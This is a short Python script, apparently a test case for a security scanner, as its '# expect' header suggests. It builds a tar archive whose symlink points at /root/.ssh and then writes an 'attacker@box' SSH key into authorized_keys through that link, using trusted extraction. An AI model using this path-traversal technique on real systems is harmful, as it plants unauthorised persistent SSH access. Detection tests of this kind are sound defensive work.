# expect: files; tar with a symlink member to /root/.ssh followed by a file written through it, extracted fully_trusted
import io
import tarfile

buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w:gz") as tar:
    link = tarfile.TarInfo("cfg")
    link.type = tarfile.SYMTYPE
    link.linkname = "/root/.ssh"
    tar.addfile(link)
    key = b"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDf attacker@box\n"
    info = tarfile.TarInfo("cfg/authorized_keys")
    info.size = len(key)
    tar.addfile(info, io.BytesIO(key))

buf.seek(0)
archive = tarfile.open(fileobj=buf, mode="r:gz")
kwargs = {"filter": "fully_trusted"} if hasattr(tarfile, "fully_trusted_filter") else {}
archive.extractall(path="plugins", **kwargs)
